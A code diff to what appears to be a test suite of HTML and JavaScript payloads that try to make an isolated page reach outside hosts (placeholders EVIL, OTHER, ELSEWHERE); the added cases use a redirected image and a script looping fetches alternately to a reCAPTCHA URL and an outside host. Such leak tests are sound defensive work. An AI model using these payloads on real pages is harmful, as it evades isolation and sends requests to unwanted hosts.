@@ -33,6 +33,7 @@ BY_ITSELF = each(
         "subtitles": "<video><track default src=EVIL></video><script>"
         "document.querySelector('video').textTracks[0].mode = 'showing'</script>",
         "frame": "<iframe src=EVIL></iframe>",
+        "image-by-redirection-in-the-clear": f"<img src='{redirect('http://OTHER/NAME')}'>",
         "frame-by-redirection": f"<iframe src='{redirect('EVIL')}'></iframe>",
         "image-in-written-frame": '<iframe srcdoc="<img src=EVIL>"></iframe>',
         "image-in-data-frame": "<iframe src='data:text/html,<img src=EVIL>'></iframe>",
@@ -110,6 +111,12 @@ OTHERS = [
         wait_ms=600,
     ),
     *each("part", {f"{name}-over-an-open-line": OPEN_LINE + page for name, page in SENT_ON.items()}),
+    Attempt(
+        "part-many-fetches-over-open-lines",
+        "<script>const go = (a) => fetch(a, {mode: 'no-cors'}).catch(() => 0); (async () => { for (let n = 0; n < 60;"
+        f" n++) {{ await go('https://www.google.com/recaptcha/x'); await go('{ELSEWHERE}') }} }})()</script>",
+        wait_ms=1_000,
+    ),
     Attempt(
         "part-answer-over-an-open-line",
         f"{OPEN_LINE}<script>onload = () => gives(fetch('{redirect('https://www.google.com/other')}')"
